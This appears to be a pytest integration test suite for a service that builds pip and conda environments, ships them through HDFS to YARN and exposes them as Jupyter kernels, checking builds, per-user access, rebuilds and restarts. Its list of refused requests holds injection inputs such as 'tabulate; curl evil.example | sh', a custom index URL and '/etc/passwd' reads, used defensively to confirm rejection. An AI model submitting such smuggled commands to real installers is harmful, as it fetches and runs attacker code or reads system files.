"""Environments on the real stack: built with uv (and py-rattler for conda), packed, shipped from HDFS
to YARN, used by kernels started through the edge; refusals leave nothing behind."""
from __future__ import annotations

import hashlib
import io
import json
import os
import sqlite3
import tarfile
import time
from pathlib import Path

import pytest
import requests

from conftest import HadoopAuth
from jupyter_ws import KernelConnection
from yardlab.edge.environments import kernel_name_for as kn
from yardlab.edge.kernelspecs import container_mb

TABULATE = "tabulate==0.9.0"

from test_edge_cli import run


def sse(session, path: str, timeout: float = 300):
    """(event, data) pairs of an environment's event stream until it ends."""
    with session("GET", path, stream=True, timeout=timeout) as r:
        assert r.status_code == 200, r.text
        assert r.headers["Content-Type"].startswith("text/event-stream")
        event = None
        for raw in r.iter_lines(decode_unicode=True):
            if raw.startswith("event: "):
                event = raw[7:]
            elif raw.startswith("data: "):
                yield event, json.loads(raw[6:])


def wait_env(session, owner: str, name: str, timeout: float = 300) -> dict:
    deadline = time.monotonic() + timeout
    while True:
        env = session.get(f"/environments/{owner}/{name}").json()
        if env["status"] in ("ready", "failed"):
            return env
        assert time.monotonic() < deadline, f"{owner}/{name} still {env['phase']} after {timeout} s"
        time.sleep(0.5)


def delete_if_there(session, owner: str, name: str) -> None:
    session("DELETE", f"/environments/{owner}/{name}")


def hdfs_status(stack, path: str) -> dict | None:
    h = HadoopAuth.of(stack)
    r = requests.get(f"{stack['webhdfs_url']}/webhdfs/v1{path}", auth=h.auth,
                     params=h.params(op="GETFILESTATUS"), timeout=10)
    return r.json()["FileStatus"] if r.status_code == 200 else None


def hdfs_list(stack, path: str) -> list[str]:
    h = HadoopAuth.of(stack)
    r = requests.get(f"{stack['webhdfs_url']}/webhdfs/v1{path}", auth=h.auth,
                     params=h.params(op="LISTSTATUS"), timeout=10)
    if r.status_code == 404:
        return []
    return sorted(s["pathSuffix"] for s in r.json()["FileStatuses"]["FileStatus"])


def archive_path(env: dict) -> str:
    assert env["archive"].startswith("hdfs://")
    return "/" + env["archive"].split("://", 1)[1].lstrip("/")


def state_of_everything(stack) -> dict:
    """What a refused request must not change: kernelspecs, HDFS archives, build folders, database rows."""
    state = Path(stack["state_dir"])
    db = sqlite3.connect(state / "edge" / "edge.sqlite")
    try:
        rows = db.execute("select owner, name from environments order by 1, 2").fetchall()
    finally:
        db.close()
    work, logs = state / "edge" / "envs" / "work", state / "edge" / "envs" / "logs"
    db = sqlite3.connect(state / "edge" / "edge.sqlite")
    try:
        resolutions = db.execute("select request_key, archive from env_resolutions order by 1").fetchall()
    finally:
        db.close()
    return {"kernelspecs": sorted(os.listdir(stack["kernels_dir"])), "hdfs": hdfs_list(stack, "/yardlab/envs"),
            "work": sorted(os.listdir(work)) if work.exists() else [], "rows": rows, "resolutions": resolutions,
            "logs": sorted(str(p.relative_to(logs)) for p in logs.rglob("*")) if logs.exists() else []}


@pytest.fixture(scope="module")
def tab_env(stack, edge_as):
    """alice's environment with tabulate pinned, in the interactive queue, 1.5 GB executors."""
    alice = edge_as("alice")
    delete_if_there(alice, "alice", "tab")
    r = alice("POST", "/environments", json={
        "name": "tab", "display_name": "Tabulate on Spark", "kind": "pyspark",
        "resources": {"queue": "interactive", "executor_memory_mb": 1536, "executor_instances": 1},
        "packages": {"pip": [TABULATE]}})
    assert r.status_code == 202, r.text
    assert r.json()["status"] == "queued" and r.json()["kernel_name"] is None
    events = list(sse(alice, "/environments/alice/tab/events"))
    yield {"created": r.json(), "events": events}
    delete_if_there(alice, "alice", "tab")


def test_a_build_streams_phases_and_log_and_ends_ready(tab_env):
    events = tab_env["events"]
    phases = [d["phase"] for e, d in events if e == "progress"]
    percents = [d["progress"] for e, d in events if e == "progress"]
    assert phases[-1] == "ready" and percents[-1] == 100
    assert percents == sorted(percents), "progress never goes backwards"
    assert "resolving" in phases and "kernelspec" in phases
    log = [d["line"] for e, d in events if e == "log"]
    assert any("tabulate" in line for line in log), log[-20:]
    (done,) = [d for e, d in events if e == "done"]
    assert done["status"] == "ready" and done["kernel_name"] == kn("alice", "tab")
    assert done["archive"].endswith(".tar")  # plain tar on the local stack (EnvironmentService.compress_level = 0)


def test_alices_kernel_on_her_environment_imports_the_package_on_driver_and_executors(stack, tab_env, edge_as, rm):
    env = edge_as("alice").get("/environments/alice/tab").json()
    kernels = edge_as("alice").session.get(f"{stack['edge_url']}/gateway/api/kernelspecs", timeout=30).json()
    assert env["kernel_name"] in kernels["kernelspecs"]
    # the archive is in HDFS, world-readable so NodeManagers cache it publicly
    st = hdfs_status(stack, archive_path(env))
    assert st is not None and st["permission"] == "644"
    kc = KernelConnection.start(stack["edge_url"] + "/gateway", stack["user_tokens"]["alice"], env["kernel_name"],
                                username="alice")
    try:
        reply = kc.execute(
            "import sys, tabulate\n"
            "print(tabulate.__version__, sys.executable)\n"
            "print(sc.parallelize([1], 1).map(lambda _: __import__('tabulate').__version__).collect()[0])")
        assert reply.status == "ok", (reply.error, reply.stderr[-2000:])
        first, second = reply.stdout.strip().splitlines()
        version, executable = first.split()
        assert version == "0.9.0" and second == "0.9.0"
        assert "/env/bin/python" in executable, executable  # the shipped archive, not the node's Python
        (app,) = rm.apps_tagged(f"kernel:{kc.kernel_id}")
        assert app["queue"] in ("interactive", "root.interactive"), app["queue"]
        assert "env:alice/tab" in app["applicationTags"].split(",")
        # the executor's container on the NodeManager is sized from the environment's 1536 MB
        h = HadoopAuth.of(stack)
        nm = requests.get(f"{stack['nm_web_url']}/ws/v1/node/containers",
                          auth=h.auth, params=h.params(), timeout=10).json()
        containers = [c for c in ((nm.get("containers") or {}).get("container") or [])
                      if c["id"].split("_")[1:3] == app["id"].split("_")[1:3] and c["state"] == "RUNNING"]
        sizes = sorted(c["totalMemoryNeededMB"] for c in containers)
        assert container_mb(1536, None, 256) in sizes, sizes
    finally:
        kc.shutdown()


def test_bob_neither_sees_nor_starts_alices_environment(stack, tab_env, edge_as):
    bob = edge_as("bob")
    names = [(e["owner"], e["name"]) for e in bob.get("/environments").json()["environments"]]
    assert ("alice", "tab") not in names
    assert bob.get("/environments/alice/tab").status_code == 404
    assert bob.get("/environments/alice/tab/log").status_code == 404
    assert bob("DELETE", "/environments/alice/tab").status_code == 404
    assert bob("PATCH", "/environments/alice/tab", json={"display_name": "mine"}).status_code == 404
    specs = bob.session.get(f"{stack['edge_url']}/gateway/api/kernelspecs", timeout=30).json()["kernelspecs"]
    pandas = edge_as("bob").get("/environments/yardlab/spark-pandas").json()["kernel_name"]
    assert kn("alice", "tab") not in specs and pandas in specs
    r = bob.session.post(f"{stack['edge_url']}/gateway/api/kernels", json={"name": kn("alice", "tab")}, timeout=60)
    assert r.status_code in (403, 404), r.text
    assert edge_as("alice").get("/environments/alice/tab").json()["status"] == "ready"


REFUSED = [
    ("option injection", {"name": "x1", "packages": {"pip": ["--index-url=http://evil.example/simple"]}}, 400,
     "packages.pip[0]"),
    ("requirements file", {"name": "x2", "packages": {"pip": ["-r /etc/passwd"]}}, 400, "packages.pip[0]"),
    ("shell", {"name": "x3", "packages": {"pip": ["tabulate; curl evil.example | sh"]}}, 400, "packages.pip[0]"),
    ("vcs link", {"name": "x4", "packages": {"pip": ["git+https://github.com/evil/pkg"]}}, 400, "packages.pip[0]"),
    ("direct url", {"name": "x5", "packages": {"pip": ["pkg @ file:///etc/passwd"]}}, 400, "packages.pip[0]"),
    ("foreign channel", {"name": "x6", "packages": {"conda": ["conda-forge::numpy"]}}, 400, "packages.conda[0]"),
    ("path name", {"name": "../../etc", "packages": {"pip": []}}, 400, "name"),
    ("too much memory", {"name": "x7", "resources": {"executor_memory_mb": 10 ** 6}}, 400,
     "resources.executor_memory_mb"),
    ("unknown queue", {"name": "x8", "resources": {"queue": "nope"}}, 400, "resources.queue"),
    ("shared by a user", {"name": "x9", "visibility": "shared"}, 403, "visibility"),
    ("spoofed owner", {"name": "x10", "owner": "bob"}, 400, "owner"),
    ("too many packages", {"name": "x11", "packages": {"pip": [f"p{i}" for i in range(51)]}}, 400, "packages.pip"),
    ("constraints file", {"name": "x12", "packages": {"pip": ["-c constraints.txt"]}}, 400, "packages.pip[0]"),
    ("editable", {"name": "x13", "packages": {"pip": ["-e git+https://github.com/evil/pkg"]}}, 400,
     "packages.pip[0]"),
    ("local path", {"name": "x14", "packages": {"pip": ["../../etc/passwd"]}}, 400, "packages.pip[0]"),
    ("local archive", {"name": "x15", "packages": {"pip": ["evil-1.0-py3-none-any.whl"]}}, 400, "packages.pip[0]"),
    ("spec too long", {"name": "x16", "packages": {"pip": ["a" * 300]}}, 400, "packages.pip[0]"),
    ("conda path", {"name": "x17", "packages": {"conda": ["/tmp/evil.tar.bz2"]}}, 400, "packages.conda[0]"),
    ("conda channel in brackets", {"name": "x18", "packages": {"conda": ["numpy[channel=conda-forge]"]}}, 400,
     "packages.conda[0]"),
    ("too many conda specs", {"name": "x19", "packages": {"conda": [f"p{i}" for i in range(51)]}}, 400,
     "packages.conda"),
    ("newline in name", {"name": "x20\n"}, 400, "name"),
    ("surrogate", {"name": "x21", "display_name": "\ud800"}, 400, None),
]


@pytest.mark.parametrize("what,body,status,field", REFUSED, ids=[r[0] for r in REFUSED])
def test_refused_requests_answer_4xx_and_leave_nothing(stack, edge_as, what, body, status, field):
    before = state_of_everything(stack)
    r = edge_as("alice")("POST", "/environments", json=body)
    assert r.status_code == status, (what, r.text)
    assert r.json().get("field") == field and r.json()["message"]
    assert state_of_everything(stack) == before


def test_bodies_that_are_not_json_or_too_big_are_refused(stack, edge_as):
    alice = edge_as("alice")
    before = state_of_everything(stack)
    r = alice("POST", "/environments", data=b"{not json", headers={"Content-Type": "application/json"})
    assert r.status_code == 400 and "JSON" in r.json()["message"]
    deep = "[" * 100_000 + "]" * 100_000
    r = alice("POST", "/environments", data=deep, headers={"Content-Type": "application/json"})
    assert r.status_code == 400, r.text
    huge = json.dumps({"name": "big", "display_name": "x" * (2 * 1024 * 1024)})
    # read to its end (the server's hard cap is above the JSON limit) and answered with the limit
    r = alice("POST", "/environments", data=huge, headers={"Content-Type": "application/json"})
    assert r.status_code == 413 and "at most 1024 KB" in r.json()["message"], r.text[:300]
    assert state_of_everything(stack) == before


def test_the_same_spec_reuses_the_archive_in_under_a_second_and_delete_keeps_a_shared_archive(
        stack, tab_env, edge_as):
    alice = edge_as("alice")
    delete_if_there(alice, "alice", "tab-again")
    first = alice.get("/environments/alice/tab").json()
    r = alice("POST", "/environments", json={"name": "tab-again", "packages": {"pip": [TABULATE]}})
    assert r.status_code == 202, r.text
    again = wait_env(alice, "alice", "tab-again", timeout=60)
    assert again["status"] == "ready", again["error"]
    assert again["archive"] == first["archive"]
    assert again["build_seconds"] <= 1.0, again["build_seconds"]
    spec_dir = Path(stack["kernels_dir"]) / kn("alice", "tab-again")
    assert (spec_dir / "kernel.json").exists()
    assert alice("DELETE", "/environments/alice/tab-again").status_code == 200
    assert not spec_dir.exists()
    assert alice.get("/environments/alice/tab-again").status_code == 404
    # "tab" still uses the archive: it stays, and so does tab's kernelspec
    assert hdfs_status(stack, archive_path(first)) is not None
    assert (Path(stack["kernels_dir"]) / kn("alice", "tab") / "kernel.json").exists()


def test_patch_changes_resources_without_a_rebuild(stack, tab_env, edge_as):
    alice = edge_as("alice")
    before = alice.get("/environments/alice/tab").json()
    r = alice("PATCH", "/environments/alice/tab", json={"display_name": "Tabulate, bigger executors",
                                                         "resources": {"executor_memory_mb": 2048}})
    assert r.status_code == 200, r.text
    after = r.json()
    assert after["archive"] == before["archive"] and after["status"] == "ready"
    assert after["resources"]["executor_memory_mb"] == 2048 and after["resources"]["queue"] == "interactive"
    spec = Path(stack["kernels_dir"]) / kn("alice", "tab")
    assert "spark.executor.memory 2048m" in (spec / "spark.properties").read_text()
    assert json.loads((spec / "kernel.json").read_text())["display_name"] == "Tabulate, bigger executors"
    bad = alice("PATCH", "/environments/alice/tab", json={"resources": {"executor_cores": 99}})
    assert bad.status_code == 400 and bad.json()["field"] == "resources.executor_cores"
    assert alice("PATCH", "/environments/alice/tab", json={"packages": {"pip": ["x"]}}).status_code == 400
    assert "spark.executor.memory 2048m" in (spec / "spark.properties").read_text()
    alice("PATCH", "/environments/alice/tab", json={"resources": {"executor_memory_mb": 1536}})


def test_a_failed_build_keeps_its_log_and_publishes_no_kernelspec(stack, edge_as):
    alice = edge_as("alice")
    delete_if_there(alice, "alice", "broken")
    before_hdfs = hdfs_list(stack, "/yardlab/envs")
    r = alice("POST", "/environments", json={"name": "broken",
                                             "packages": {"pip": ["yardlab-no-such-package-anywhere==1.0"]}})
    assert r.status_code == 202
    env = wait_env(alice, "alice", "broken", timeout=120)
    assert env["status"] == "failed" and env["phase"] == "failed"
    assert "resolving the pip requirements failed" in env["error"]
    assert env["kernel_name"] is None
    assert not (Path(stack["kernels_dir"]) / kn("alice", "broken")).exists()
    log = alice.get("/environments/alice/broken/log")
    assert log.status_code == 200 and "yardlab-no-such-package-anywhere" in log.text and "FAILED" in log.text
    assert hdfs_list(stack, "/yardlab/envs") == before_hdfs
    assert alice("DELETE", "/environments/alice/broken").status_code == 200


def build_local_channel(channel: Path) -> str:
    """A conda channel with one small noarch package, indexed by py-rattler (the test suite's own)."""
    import asyncio

    from rattler.index import index_fs

    noarch = channel / "noarch"
    noarch.mkdir(parents=True, exist_ok=True)
    content = b"hello from the yardlab test channel\n"
    index = {"name": "yardlab-hello", "version": "1.0.0", "build": "0", "build_number": 0, "depends": [],
             "noarch": "generic", "subdir": "noarch", "license": "MIT", "timestamp": 1763769600000}
    paths = {"paths": [{"_path": "share/yardlab-hello/hello.txt", "path_type": "hardlink",
                        "sha256": hashlib.sha256(content).hexdigest(), "size_in_bytes": len(content)}],
             "paths_version": 1}

    def add(tf: tarfile.TarFile, name: str, data: bytes) -> None:
        info = tarfile.TarInfo(name)
        info.size, info.mtime = len(data), 0
        tf.addfile(info, io.BytesIO(data))

    with tarfile.open(noarch / "yardlab-hello-1.0.0-0.tar.bz2", "w:bz2") as tf:
        add(tf, "info/index.json", json.dumps(index).encode())
        add(tf, "info/paths.json", json.dumps(paths).encode())
        add(tf, "info/files", b"share/yardlab-hello/hello.txt\n")
        add(tf, "share/yardlab-hello/hello.txt", content)
    result = index_fs(channel, force=True)
    if asyncio.iscoroutine(result):
        asyncio.run(result)
    assert (noarch / "repodata.json").exists()
    return content.decode()


def test_a_conda_environment_from_the_local_channel_resolves_installs_and_packs(stack, edge_as):
    content = build_local_channel(Path(stack["conda_channel"]))
    alice = edge_as("alice")
    delete_if_there(alice, "alice", "hello-conda")
    r = alice("POST", "/environments", json={"name": "hello-conda", "kind": "python",
                                             "packages": {"conda": ["yardlab-hello >=1"]}})
    assert r.status_code == 202, r.text
    env = wait_env(alice, "alice", "hello-conda", timeout=300)
    assert env["status"] == "ready", (env["error"], alice.get("/environments/alice/hello-conda/log").text[-2000:])
    log = alice.get("/environments/alice/hello-conda/log").text
    assert "yardlab-hello 1.0.0 0" in log
    with HadoopAuth.of(stack).webhdfs(stack, proxy="bob").read(archive_path(env)) as r:  # public: any user reads it
        data = r.read()
    with tarfile.open(fileobj=io.BytesIO(data), mode="r:*") as tf:
        names = set(tf.getnames())
        assert "share/yardlab-hello/hello.txt" in names
        assert "conda-meta/yardlab-hello-1.0.0-0.json" in names
        assert any(n.startswith("lib/python3") and n.endswith("site-packages/ipykernel/__init__.py") for n in names)
        assert tf.extractfile("share/yardlab-hello/hello.txt").read().decode() == content
    assert alice("DELETE", "/environments/alice/hello-conda").status_code == 200
    assert hdfs_status(stack, archive_path(env)) is None  # nobody else used it: removed


def test_an_edge_restart_during_a_build_resumes_it_and_leaves_no_junk(stack, stack_control, edge_as):
    alice = edge_as("alice")
    delete_if_there(alice, "alice", "restart")
    r = alice("POST", "/environments", json={"name": "restart", "packages": {"pip": ["tabulate==0.8.10"]}})
    assert r.status_code == 202
    deadline = time.monotonic() + 120
    while alice.get("/environments/alice/restart").json()["phase"] not in ("installing", "packing", "uploading"):
        assert time.monotonic() < deadline, "the build never got going"
        time.sleep(0.2)
    # what a crash would leave: an unfinished upload in HDFS and a work folder on disk
    junk = "/yardlab/envs/.0123abcd.deadbeef.tmp"
    HadoopAuth.of(stack).webhdfs(stack).write(junk, b"half an archive", overwrite=True)
    (Path(stack["state_dir"]) / "edge" / "envs" / "work" / "crashed-build").mkdir(parents=True, exist_ok=True)
    stack_control.restart_edge()
    env = wait_env(alice, "alice", "restart", timeout=300)
    assert env["status"] == "ready", env["error"]
    assert "restarted during this build" in alice.get("/environments/alice/restart/log").text
    work = Path(stack["state_dir"]) / "edge" / "envs" / "work"
    assert os.listdir(work) == []
    assert not [n for n in hdfs_list(stack, "/yardlab/envs") if n.startswith(".")]
    assert alice("DELETE", "/environments/alice/restart").status_code == 200


def test_the_cli_creates_follows_shows_lists_and_deletes(stack, tab_env, edge_as):
    run(stack, "alice", "env", "delete", "cli-tab")
    done = run(stack, "alice", "env", "create", "cli-tab", "--pip", TABULATE, "--executor-memory", "1g",
               "--queue", "default", "--display-name", "From the CLI")
    assert done.returncode == 0, done.stderr
    assert "status:    ready" in done.stdout and f"kernel:    {kn('alice', 'cli-tab')}" in done.stdout
    assert "100%" in done.stderr and "ready" in done.stderr  # the progress bar reached its end
    listed = run(stack, "alice", "env", "list")
    assert "alice/cli-tab" in listed.stdout and "yardlab/spark-pandas" in listed.stdout
    shown = json.loads(run(stack, "alice", "--json", "env", "show", "cli-tab").stdout)
    assert shown["resources"]["executor_memory_mb"] == 1024 and shown["display_name"] == "From the CLI"
    refused = run(stack, "alice", "env", "create", "cli-bad", "--pip", "-r /etc/passwd")
    assert refused.returncode == 2 and "pip options" in refused.stderr
    assert run(stack, "bob", "env", "show", "alice/cli-tab").returncode == 2
    assert run(stack, "alice", "env", "delete", "cli-tab").returncode == 0
    assert "alice/cli-tab" not in run(stack, "alice", "env", "list").stdout


def test_admins_share_environments_everyone_sees_and_only_admins_change(stack, tab_env, edge_as):
    admin, bob = edge_as("admin"), edge_as("bob")
    delete_if_there(admin, "admin", "team-tab")
    r = admin("POST", "/environments", json={"name": "team-tab", "visibility": "shared",
                                             "display_name": "Team: tabulate", "packages": {"pip": [TABULATE]}})
    assert r.status_code == 202, r.text
    assert wait_env(admin, "admin", "team-tab", timeout=120)["status"] == "ready"
    listed = {(e["owner"], e["name"]): e for e in bob.get("/environments").json()["environments"]}
    assert listed[("admin", "team-tab")]["can_edit"] is False
    assert ("yardlab", "spark-pandas") in listed  # the one the local stack ships
    specs = bob.session.get(f"{stack['edge_url']}/gateway/api/kernelspecs", timeout=30).json()["kernelspecs"]
    assert kn("admin", "team-tab") in specs
    assert bob("DELETE", "/environments/admin/team-tab").status_code == 403
    assert bob("PATCH", "/environments/admin/team-tab", json={"display_name": "mine"}).status_code == 403
    everyone = admin.get("/environments", params={"owner": "all"}).json()["environments"]
    assert ("alice", "tab") in {(e["owner"], e["name"]) for e in everyone}
    assert bob.get("/environments", params={"owner": "all"}).status_code == 403
    assert admin("DELETE", "/environments/admin/team-tab").status_code == 200
    assert kn("admin", "team-tab") not in bob.session.get(f"{stack['edge_url']}/gateway/api/kernelspecs",
                                                      timeout=30).json()["kernelspecs"]



def test_delete_during_a_build_then_create_again_builds_once(stack, tab_env, edge_as):
    alice = edge_as("alice")
    delete_if_there(alice, "alice", "race")
    first = alice("POST", "/environments", json={"name": "race", "packages": {"pip": ["tabulate==0.8.9"]}})
    assert first.status_code == 202
    assert alice("DELETE", "/environments/alice/race").status_code == 200
    again = alice("POST", "/environments", json={"name": "race", "packages": {"pip": [TABULATE]}})
    assert again.status_code == 202, again.text
    env = wait_env(alice, "alice", "race", timeout=120)
    assert env["status"] == "ready", env["error"]
    assert env["packages"]["pip"] == [TABULATE]
    assert env["archive"] == alice.get("/environments/alice/tab").json()["archive"]
    time.sleep(3)  # a second build of the same key would show up as a phase change here
    assert alice.get("/environments/alice/race").json()["status"] == "ready"
    log = alice.get("/environments/alice/race/log").text
    assert log.count("ready in") == 1 and "0.8.9" not in log
    assert alice("DELETE", "/environments/alice/race").status_code == 200
    assert hdfs_status(stack, archive_path(env)) is not None  # tab still uses it



def test_a_rebuild_resolves_again_and_only_the_owner_may_ask(stack, tab_env, edge_as):
    alice, bob = edge_as("alice"), edge_as("bob")
    delete_if_there(alice, "alice", "again")
    assert alice("POST", "/environments", json={"name": "again", "packages": {"pip": [TABULATE]}}).status_code == 202
    first = wait_env(alice, "alice", "again", timeout=120)
    assert first["status"] == "ready"
    assert bob("POST", "/environments/alice/again/rebuild").status_code == 404
    r = alice("POST", "/environments/alice/again/rebuild")
    assert r.status_code == 202 and r.json()["status"] == "queued"
    assert alice("POST", "/environments/alice/again/rebuild").status_code == 409  # already queued
    env = wait_env(alice, "alice", "again", timeout=120)
    assert env["status"] == "ready" and env["archive"] == first["archive"]  # same pins: same archive
    log = alice.get("/environments/alice/again/log").text
    assert "rebuild asked by alice" in log and "resolved " in log  # resolved again, not the shortcut
    done = run(stack, "alice", "env", "rebuild", "again")
    assert done.returncode == 0 and "status:    ready" in done.stdout, done.stderr
    assert alice("DELETE", "/environments/alice/again").status_code == 200
